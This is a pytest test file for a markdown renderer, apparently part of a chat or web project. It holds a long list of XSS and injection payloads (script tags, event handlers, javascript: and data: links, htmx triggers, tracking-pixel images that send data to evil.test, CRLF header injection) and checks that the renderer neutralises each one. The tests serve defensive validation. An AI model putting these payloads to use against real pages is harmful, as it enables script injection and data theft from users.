"""What hostile texts must not become. Each is rendered whole, streamed, and read back as tags."""

import pytest

from one_project.common.markdown import StreamRenderer, plain_text, render
from tests.common.markdown.audit import audit

HOSTILE = [
    # scripts and handlers in raw HTML
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.test/x.js></SCRIPT>",
    "<img src=x onerror=alert(1)>",
    "<svg onload=alert(1)><a xlink:href='javascript:alert(1)'><rect/></a></svg>",
    "<svg/onload=alert(1)>",
    "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src onerror=f()'>",
    "<iframe src=https://evil.test></iframe>",
    "<iframe srcdoc='<script>alert(1)</script>'>",
    "<object data=https://evil.test/x></object><embed src=//evil.test>",
    "<video poster=https://evil.test/x><source src=https://evil.test/y></video>",
    "<link rel=stylesheet href=https://evil.test/x.css>",
    "<style>@import 'https://evil.test/x.css'</style>",
    "<meta http-equiv=refresh content='0;url=https://evil.test'>",
    "<base href=https://evil.test/>",
    "<form action=https://evil.test><button formaction=javascript:alert(1)>x</button></form>",
    "<button type=button class=copy-code data-copy=code>Copy</button>",
    "<input autofocus onfocus=alert(1)>",
    "<details open ontoggle=alert(1)><summary>x</summary></details>",
    "<template><script>alert(1)</script></template>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<div style='background:url(https://evil.test/x)'>x</div>",
    "<a href='https://a.test' onclick='alert(1)' style='position:fixed;inset:0'>x</a>",
    "<p><b\n onmouseover=alert(1)>x</b>",
    "<!--><script>alert(1)</script>-->",
    "<?xml version='1.0'?><!DOCTYPE html><![CDATA[<script>alert(1)</script>]]>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "</div></div></main><script>alert(1)</script>",
    # htmx
    "<div hx-get=/admin/ hx-trigger=load>x</div>",
    "<div data-hx-post=/logout data-hx-trigger='every 1s'>x</div>",
    "<p hx-on:load='alert(1)' hx-ext=ws ws-connect=//evil.test>x</p>",
    # pictures: a request without a click
    "![x](https://evil.test/?q=secret)",
    "![](https://evil.test/pixel.gif)",
    "![x][p]\n\n[p]: https://evil.test/pixel.gif",
    "![p]\n\n[p]: <https://evil.test/pixel.gif> 'title'",
    "![x](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+)",
    "![x](//evil.test/x)",
    "[![x](https://evil.test/a)](https://evil.test/b)",
    "![a ![b](https://evil.test/b)](https://evil.test/a)",
    '![x"onerror="alert(1)](https://evil.test/a "t\\"onload=alert(1)")',
    "| a |\n|---|\n| ![x](https://evil.test/x) |",
    "- [ ] ![x](https://evil.test/x)",
    # addresses
    "[x](javascript:alert(1))",
    "[x](JaVaScRiPt:alert(1))",
    "[x](javascript&colon;alert(1))",
    "[x](&#106;avascript:alert(1))",
    "[x](&#x6A&#x61vascript:alert(1))",
    "[x](java&Tab;script:alert(1))",
    "[x](java\x00script:alert(1))",
    "[x](\x01javascript:alert(1))",
    "[x](<java\tscript:alert(1)>)",
    "[x](vbscript:msgbox(1))",
    "[x](data:text/html,<script>alert(1)</script>)",
    "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "[x](file:///etc/passwd)",
    "[x](blob:https://evil.test/1)",
    "[x](//evil.test)",
    "[x](///evil.test)",
    "[x](\\\\\\\\evil.test)",
    "[x](/\\evil.test)",
    "[x](/logout)",
    "[x](?next=/admin)",
    "[x](#top)",
    "[x](https:evil.test)",
    "[x](https:/\\evil.test)",
    "[x](http://good.test@evil.test/)",
    "[x](http://good.test%40evil.test/)",
    "[x](http://evil.test\\@good.test/)",
    "[x](https://evil.test/%0d%0aSet-Cookie:a=b)",
    "[x](mailto:a@b.test?body=x%0d%0aBcc:c@d.test)",
    "[x](mailto:a@b.test,c@d.test)",
    '[x](https://a.test" onmouseover="alert(1))',
    '[x](<https://a.test"onmouseover=alert(1)>)',
    "[x](https://a.test 't\" onmouseover=\"alert(1)')",
    "<javascript:alert(1)>",
    "<data:text/html,x>",
    '<https://a.test/"onmouseover="alert(1)>',
    'xmpp:a@b.test javascript:alert(1) www.a.test/"onclick=alert(1)',
    "https://a.test/<script>alert(1)</script>",
    "[a](<b onclick=x> c",
    "\\[a](<!-- x>) -->",
    "[x]: javascript:alert(1)\n[x]",
    # code
    '```"><script>alert(1)</script>\nx\n```',
    '```python onclick=alert(1) class="copy-code"\nx\n```',
    "```html\n<script>alert(1)</script><img src=x onerror=alert(1)>\n```",
    "```\n</code></pre><script>alert(1)</script>\n```",
    "- ```<b>\n  </code></pre></div><script>alert(1)</script>\n  ```",
    "`<img src=x onerror=alert(1)>`",
    "    <script>alert(1)</script>",
    # our own marks and what stands between blocks
    "\ufdd1<script>alert(1)</script>\ufdd2",
    "a\n\n\ufdd2\n\n<script>alert(1)</script>",
    "<\ufdd1script>alert(1)</script>",
    "<\x00script>alert(1)</script>",
    '<pre lang="x"><code>y</code></pre>',
    "<p>\ufdd2</p>",
    # nesting
    "[a [b](https://b.test)](https://c.test)",
    "> > - 1. [x](javascript:alert(1)) <b>",
    "**<b>**</b>*<script>*alert(1)</script>",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#60;img src=x onerror=alert(1)&#62;",
    "\u202e<script>alert(1)</script>\u2066",
]


def streamed(text: str) -> str:
    renderer = StreamRenderer()
    records = [record for char in text for record in renderer.feed(char)] + renderer.finish()
    for kind, content in records:
        if kind != "d":
            assert audit(content).faults == []
    return "".join(content for kind, content in records if kind == "c")


@pytest.mark.parametrize("text", HOSTILE)
def test_only_what_is_allowed_comes_out(text):
    html = render(text)
    assert audit(html).faults == []
    assert streamed(text) == html


@pytest.mark.parametrize("text", HOSTILE)
def test_no_address_leads_where_its_form_hides(text):
    for address in audit(render(text)).addresses:
        assert not address.lower().startswith(("javascript", "data", "vbscript", "//", "/"))
        assert "@evil.test" not in address


@pytest.mark.parametrize("text", HOSTILE)
def test_plain_text_of_it_is_one_line_without_controls(text):
    line = plain_text(text)
    assert "\n" not in line
    assert not set(line) & {"\x00", "\x01", "\u202e", "\u2066", "\ufdd1", "\ufdd2"}


def test_raw_html_is_shown_as_the_text_it_is():
    found = audit(render("a <b>bold</b> <!-- note --> <br/> </p> 1 <2 a<b `<i>`"))
    assert found.text.strip() == "a <b>bold</b> <!-- note --> <br/> </p> 1 <2 a<b <i>"
    assert audit(render("<div>\n\n*x*\n\n</div>")).text.split() == ["<div>", "x", "</div>"]


def test_the_only_button_is_ours():
    html = render("<button class=copy-code>x</button>\n\n```\n<button>\n```")
    assert audit(html).tags.count("button") == 1


def test_every_link_is_cut_off_from_the_page():
    html = render(
        "https://a.test [b](https://b.test) <https://c.test> m@d.test ![e](https://e.test)"
    )
    assert html.count("<a ") == 5
    assert html.count('target="_blank" rel="noopener noreferrer nofollow ugc"') == 5
